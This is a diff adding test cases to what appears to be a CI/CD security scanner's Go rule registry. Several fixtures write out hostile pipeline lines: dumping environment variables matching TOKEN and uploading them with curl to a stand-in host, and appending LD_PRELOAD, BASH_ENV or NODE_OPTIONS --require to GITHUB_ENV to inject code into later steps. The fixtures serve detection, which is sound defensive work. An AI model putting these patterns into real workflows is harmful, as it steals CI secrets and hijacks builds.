@@ -201,6 +201,9 @@ var registry = []Rule{
 			// A deploy of the checkout: what it sends is the site, not secrets the script wrote.
 			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/\n      - run: aws s3 sync . s3://x-site --delete", 0, true},
 			{"x.sh", "env > out/e.txt\naws s3 sync out s3://x-b", 2, false},
+			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
+			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
+			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
@@ -657,6 +660,11 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('NODE_OPTIONS', '--require ./x.js')", 7, false},
 			{"scripts/ci-env.js", "fs.appendFileSync(process.env.GITHUB_ENV, `LD_PRELOAD=${lib}\\n`)", 0, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('CI_SHA', context.sha)", 7, true},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"LD_PRELOAD=./build/hook.so\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"BASH_ENV=$RUNNER_TEMP/env.sh\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: printf 'NODE_OPTIONS=--require=%s/t/r.cjs\\n' \"$PWD\" >> \"$GITHUB_ENV\"", 4, false},
+			// A tool on PATH, or an option that loads no module.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"SCCACHE_GHA_ENABLED=true\" >> $GITHUB_ENV\n          echo \"RUSTC_WRAPPER=sccache\" >> $GITHUB_ENV\n          echo \"NODE_OPTIONS=--max-old-space-size=8192\" >> $GITHUB_ENV", 0, true},
 		}},
 	{"gha-github-env-privileged", KindExecute, High, "writes GITHUB_ENV or GITHUB_PATH in a privileged workflow",
 		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", []Case{
